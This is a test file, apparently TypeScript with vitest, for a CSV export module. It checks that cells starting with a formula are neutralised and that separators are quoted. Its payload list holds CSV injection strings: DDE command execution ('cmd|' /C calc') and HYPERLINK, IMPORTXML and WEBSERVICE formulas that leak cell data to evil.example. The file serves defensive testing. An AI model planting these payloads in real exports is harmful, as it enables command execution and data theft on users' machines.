import { describe, expect, it } from "vitest";
import { csvCell, neutraliseCell, textCell, toCsv } from "./csv";

describe("neutraliseCell", () => {
  it.each(["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil")'])(
    "prefixes %j with a quote",
    (value) => {
      expect(neutraliseCell(value)).toBe(`'${value}`);
    },
  );
  it("leaves ordinary text alone", () => {
    expect(neutraliseCell("Ann Lee")).toBe("Ann Lee");
    expect(neutraliseCell("a=b")).toBe("a=b");
  });
});

describe("toCsv", () => {
  it("quotes commas, quotes and line breaks, and neutralises formulas inside quoted cells", () => {
    const csv = toCsv(
      ["a", "b", "c"],
      [
        ["x,y", 'say "hi"', "=1+1\nnext"],
        [null, ["p", "-q"], -104.99],
      ],
    );
    expect(csv).toBe('\uFEFFa,b,c\r\n"x,y","say ""hi""","\'=1+1\nnext"\r\n,"p; \'-q",-104.99\r\n');
  });
});

/** RFC 4180 reader: the cells a spreadsheet program would see. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const body = text.replace(/^\uFEFF/, "");
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && body[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  return rows;
}

// OWASP CSV injection payloads and the usual bypasses (formula after a separator, leading
// whitespace, tab and carriage return, full-width signs, DDE).
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"!A0")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "  @SUM(A1)",
  "x;=1+1",
  'x; =HYPERLINK("http://evil.example")',
  "x,=1+1",
  "x,+1",
  "x\t-1+1",
  "John\n=2+5+cmd|' /C calc'!A0",
  "a;b;=cmd|' /C calc'!A0",
  '"=1+1"',
  "\uFF1D1+1",
  "\uFF0BSUM(1)",
  "=0x41",
];
const TRIGGER = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/;

describe("CSV injection payloads", () => {
  const csv = toCsv(
    ["value", "note"],
    PAYLOADS.map((p) => [p, `note ${p}`]),
  );
  const rows = readCsv(csv).slice(1);

  it("keeps one cell per payload, never split by a separator inside it", () => {
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const row of rows) expect(row).toHaveLength(2);
  });

  it.each(PAYLOADS.map((p, i) => [JSON.stringify(p), i] as const))("%s comes out inert", (_, i) => {
    const cell = rows[i]![0]!;
    expect(TRIGGER.test(cell)).toBe(false);
    // Whatever separator a spreadsheet program splits on, no piece starts a formula either.
    for (const piece of cell.split(/[,;\t\r\n]/).slice(1)) expect(TRIGGER.test(piece)).toBe(false);
    // Nothing but the guard's quotes was added: the text is still readable.
    expect(cell.replaceAll("'", "")).toBe(PAYLOADS[i]!.replaceAll("'", ""));
  });
});

// Every text of up to three characters from those the rules look at (separators, quotes, spaces, a
// no-break space, formula starts in both widths) and two plain ones: the quick test for text that needs
// no work must give what the rules give.
const CHARS = ["a", "1", " ", "\u00A0", "=", "-", "+", "@", "\uFF1D", ",", ";", '"', "\t", "\r", "\n"];
const texts = [""];
for (let length = 1, last = [""]; length <= 3; length++) {
  last = last.flatMap((t) => CHARS.map((c) => t + c));
  texts.push(...last);
}

const byTheRules = (text: string) => {
  const safe = neutraliseCell(text);
  return /[",;\t\r\n]|^\s|\s$/.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
};

describe("CSV cells", () => {
  it("writes text as the neutralising and quoting rules do", () => {
    expect(texts).toHaveLength(1 + 15 + 15 ** 2 + 15 ** 3);
    expect(texts.filter((t) => textCell(t) !== byTheRules(t))).toEqual([]);
    expect(textCell("Ann Lee")).toBe("Ann Lee");
    expect(textCell("=1+2")).toBe("'=1+2");
    expect(textCell("a, =b")).toBe(`"a, '=b"`);
  });

  it("writes numbers as they are, other values as text", () => {
    expect(csvCell(-104.99)).toBe("-104.99");
    expect(csvCell("-104.99")).toBe("'-104.99");
    expect(csvCell(null)).toBe("");
    expect(csvCell(["a", "=b"])).toBe(`"a; '=b"`);
    expect(csvCell(true)).toBe("true");
  });
});
